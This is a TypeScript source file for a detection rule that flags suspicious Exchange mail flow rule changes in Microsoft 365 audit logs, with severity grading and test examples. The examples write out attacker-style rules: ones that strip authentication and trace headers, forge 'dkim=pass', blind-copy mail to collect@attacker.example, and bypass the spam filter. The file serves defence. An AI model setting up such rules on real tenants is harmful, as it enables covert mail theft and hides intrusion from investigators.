import type { AuditEvent } from '../m365/audit-event.js';
import { defineDetection, type DetectionMatch } from './model/detection.js';
import type { TransportRule } from '../facts/fact-types.js';
import { classifyMailHeader } from '../m365/mail-header-names.js';
import { PORTAL_PAGES } from '../m365/portal-links.js';
import { compareSeverity, lowerSeverity, type Severity } from '../core/severity.js';
import {
  findRuleFlags,
  findUnresolvedRecipients,
  isEnforcedRule,
  type TransportRuleFlag,
} from '../facts/transport-rule-flags.js';
import { formatList } from '../core/sentence-formatting.js';
import { isOperation, readParameter } from './lib/event-field-readers.js';
import {
  buildMailFlowMatch,
  guessOwnDomains,
  hasEffectiveChange,
  listMailFlowCmdlets,
  readMailFlowChange,
  type MailFlowChange,
  type MailFlowJudgement,
} from './lib/mail-flow-change-match.js';
import { readTransportRule } from './lib/transport-rule-from-cmdlet.js';
import { exchangeEvent, HELPER_ACTOR, knownHelperApp, MICROSOFT_ACTOR } from './lib/sample-events.js';
import { isByApp, isByMicrosoft, resolveActorLabel } from './lib/event-subject-and-actor.js';
import { type DetectionContext } from './model/detection-context.js';

/**
 * Severity of a rule flag. A change now is worse than an existing rule: someone is removing evidence of where mail
 * comes from.
 */
function severityOf(flag: TransportRuleFlag, removeHeader: string | undefined): Severity {
  if (flag.what === 'routes-elsewhere') return 'medium';
  const strips = flag.what === 'strips-headers' && classifyMailHeader(removeHeader ?? '') === 'trace';
  return strips ? 'critical' : flag.severity;
}

/** Flags recipients given by name: a contact's name can resolve to any address. */
function unresolved(rule: TransportRule): readonly TransportRuleFlag[] {
  const names = findUnresolvedRecipients(rule);
  if (names.length === 0) return [];
  const words = `sends mail to ${formatList(names)}, wherever that leads`;
  return [{ what: 'copies-outside', words, severity: 'medium', confidence: 'low' }];
}

/** Severity if a person makes the change, by what the rule does to mail as far as the record shows. */
function judge({ event, verb, subject }: MailFlowChange): MailFlowJudgement {
  if (verb === 'Disable') return { severity: 'low', confidence: 'medium' };
  if (verb === 'Remove' || verb === 'Enable') return { severity: 'medium', confidence: 'medium' };
  if (verb === 'Set' && !hasEffectiveChange(event)) return { severity: 'low', confidence: 'high' };
  const rule = readTransportRule(event, subject.name);
  const flags = [...findRuleFlags(rule, guessOwnDomains(event)), ...unresolved(rule)].map((flag) => ({
    ...flag,
    severity: severityOf(flag, rule.removeHeader),
  }));
  const worst = flags.toSorted((a, b) => compareSeverity(a.severity, b.severity))[0];
  if (worst === undefined) return { severity: 'low', confidence: 'medium' };
  const acts = isEnforcedRule(rule);
  return {
    severity: acts ? worst.severity : lowerSeverity(worst.severity),
    // The rule may already have a condition that makes it harmless, or the recipient's domain may be ours but unknown
    // here.
    confidence:
      worst.confidence === 'high' && verb === 'Set' && readParameter(event, 'RemoveHeader') === undefined
        ? 'medium'
        : worst.confidence,
    why: acts ? worst.words : `${worst.words}, once it is switched on`,
  };
}

/**
 * Replaces all rules with those from a file in one act; the record does not say what they do.
 * Source: https://learn.microsoft.com/powershell/module/exchangepowershell/import-transportrulecollection
 */
const ALL_AT_ONCE = 'Import-TransportRuleCollection';

function importMatch(event: AuditEvent, context: DetectionContext): DetectionMatch | undefined {
  if (!event.succeeded || isByMicrosoft(event, context)) return undefined;
  const byApp = isByApp(event, context);
  return {
    subject: { kind: 'transport-rule', id: 'all mail flow rules', name: 'all mail flow rules' },
    severity: byApp ? 'critical' : 'high',
    confidence: byApp ? 'high' : 'medium',
    title: `All mail flow rules were replaced at once by ${byApp ? 'the app ' : ''}${resolveActorLabel(event, context)}`,
    what: 'All mail flow rules replaced at once',
    stage: 'rules-created',
  };
}

const strip = (header: string, more: Readonly<Record<string, string>> = {}) => ({
  Name: 'Header clean-up 01',
  RemoveHeader: header,
  Enabled: 'True',
  ...more,
});

export const detection = defineDetection({
  id: 'transport-rule-changed',
  description:
    'A mail flow rule is created, changed, enabled, disabled or removed; one that strips headers is told apart.',
  operations: [...listMailFlowCmdlets('TransportRule'), ALL_AT_ONCE],
  techniques: [
    { id: 'T1564.008', name: 'Email Hiding Rules' },
    { id: 'T1114.003', name: 'Email Forwarding Rule' },
    { id: 'T1070.008', name: 'Clear Mailbox Data' },
  ],
  benign: [
    'Rules for disclaimers, external-mail warnings, encryption or journaling; they count as low.',
    'A gateway’s own headers (X-Proofpoint, X-Barracuda …) are stripped before mail leaves; that counts as low.',
    'Phishing simulations are let past the filter, by the addresses they come from.',
    'A colleague’s mail is redirected while they are away.',
  ],
  nextSteps: [
    {
      text: 'Ask the person named whether it was them; an app never answers: see what it may do.',
      url: PORTAL_PAGES.enterpriseApps,
    },
    { text: 'Look at the rule, and at those made in the same hour.', url: PORTAL_PAGES.transportRules },
  ],
  match: (event, context) => {
    if (isOperation(event, ALL_AT_ONCE)) return importMatch(event, context);
    const change = readMailFlowChange(event, context, 'TransportRule');
    return change === undefined ? undefined : buildMailFlowMatch(change, context, judge(change), 'rules-created');
  },
  examples: [
    {
      name: 'an app strips what tells the true sender',
      event: exchangeEvent(
        'New-TransportRule',
        'Header clean-up 01',
        strip('X-MS-Exchange-ExternalOriginalInternetSender'),
        {
          actor: HELPER_ACTOR,
        },
      ),
      known: { apps: [knownHelperApp()] },
      expect: {
        severity: 'critical',
        confidence: 'high',
        subjectId: 'Header clean-up 01',
        title:
          'The mail flow rule Header clean-up 01 was made by the app Office Sync Helper: it removes the header X-MS-Exchange-ExternalOriginalInternetSender',
      },
    },
    {
      name: 'a person strips the results of authentication',
      event: exchangeEvent('New-TransportRule', 'r', strip('Authentication-Results')),
      expect: { severity: 'critical', confidence: 'high' },
    },
    {
      name: 'an existing rule is made to strip',
      event: exchangeEvent('Set-TransportRule', 'Disclaimer', {
        Identity: 'Disclaimer',
        RemoveHeader: 'DKIM-Signature',
      }),
      expect: { severity: 'critical', confidence: 'high' },
    },
    {
      name: 'the results of authentication are overwritten instead',
      event: exchangeEvent('New-TransportRule', 'r', {
        SetHeaderName: 'Authentication-Results',
        SetHeaderValue: 'dkim=pass',
      }),
      expect: { severity: 'high', confidence: 'high' },
    },
    {
      name: 'mail is sent out by a connector',
      event: exchangeEvent('New-TransportRule', 'r', { RouteMessageOutboundConnector: 'Archive' }),
      expect: { severity: 'medium' },
    },
    {
      name: 'blind copies to a contact, which may be anybody',
      event: exchangeEvent('New-TransportRule', 'r', { BlindCopyTo: 'Archive contact' }),
      expect: { severity: 'medium', confidence: 'low' },
    },
    {
      name: 'a header of the company’s own is set',
      event: exchangeEvent('New-TransportRule', 'r', { SetHeaderName: 'X-Contoso-Class', SetHeaderValue: 'internal' }),
      expect: { severity: 'low' },
    },
    {
      name: 'a rule that strips, to be tried out first',
      event: exchangeEvent('New-TransportRule', 'r', strip('Received', { Mode: 'Audit' })),
      expect: { severity: 'high' },
    },
    {
      name: 'a header of the company’s own',
      event: exchangeEvent('New-TransportRule', 'r', strip('X-Contoso-Classification')),
      expect: { severity: 'high', confidence: 'medium' },
    },
    {
      name: 'a gateway’s own header',
      event: exchangeEvent('New-TransportRule', 'r', strip('X-Proofpoint-Spam-Details')),
      expect: { severity: 'low' },
    },
    {
      name: 'past the spam filter for whoever names a domain as the sender',
      event: exchangeEvent('New-TransportRule', 'Partners', { SenderDomainIs: 'partner.example', SetSCL: '-1' }),
      expect: { severity: 'high', confidence: 'high' },
    },
    {
      name: 'a phishing simulation, by its addresses',
      event: exchangeEvent('New-TransportRule', 'Simulation', { SenderIpRanges: '198.51.100.7', SetSCL: '-1' }),
      expect: { severity: 'low' },
    },
    {
      name: 'blind copies to the outside',
      event: exchangeEvent('Set-TransportRule', 'Copy', { Identity: 'Copy', BlindCopyTo: 'collect@attacker.example' }),
      expect: { severity: 'high', confidence: 'medium' },
    },
    {
      name: 'journaling to a mailbox of the own domain',
      event: exchangeEvent('New-TransportRule', 'Journal', { BlindCopyTo: 'journal@contoso.com' }),
      expect: { severity: 'low' },
    },
    {
      name: 'a disclaimer',
      event: exchangeEvent('New-TransportRule', 'Disclaimer', { ApplyHtmlDisclaimerText: '<p>Contoso Ltd</p>' }),
      expect: { severity: 'low' },
    },
    {
      name: 'a disclaimer made by an app',
      event: exchangeEvent(
        'New-TransportRule',
        'Disclaimer',
        { ApplyHtmlDisclaimerText: 'x' },
        { actor: HELPER_ACTOR },
      ),
      expect: { severity: 'critical' },
    },
    {
      name: 'switched on',
      event: exchangeEvent('Enable-TransportRule', 'r', { Identity: 'r' }),
      expect: { severity: 'medium' },
    },
    {
      name: 'switched off',
      event: exchangeEvent('Disable-TransportRule', 'Warn of external mail', { Identity: 'Warn of external mail' }),
      expect: { severity: 'low' },
    },
    {
      name: 'removed',
      event: exchangeEvent('Remove-TransportRule', 'Warn of external mail', { Identity: 'Warn of external mail' }),
      expect: { severity: 'medium' },
    },
    {
      name: 'Exchange’s own encryption rule',
      event: exchangeEvent(
        'New-TransportRule',
        'Encrypt',
        { ApplyRightsProtectionTemplate: 'Encrypt' },
        { actor: MICROSOFT_ACTOR },
      ),
      expect: 'silent',
    },
    {
      name: 'all rules replaced by those of a file',
      event: exchangeEvent(ALL_AT_ONCE, '', { FileData: '<Binary>', Force: 'True' }),
      expect: {
        severity: 'high',
        confidence: 'medium',
        title: 'All mail flow rules were replaced at once by megan@contoso.com',
      },
    },
    {
      name: 'the same by an app',
      event: exchangeEvent(ALL_AT_ONCE, '', { FileData: '<Binary>' }, { actor: HELPER_ACTOR }),
      known: { apps: [knownHelperApp()] },
      expect: { severity: 'critical', confidence: 'high' },
    },
    {
      name: 'refused',
      event: exchangeEvent('New-TransportRule', 'r', strip('Received'), { succeeded: false }),
      expect: 'silent',
    },
  ],
});
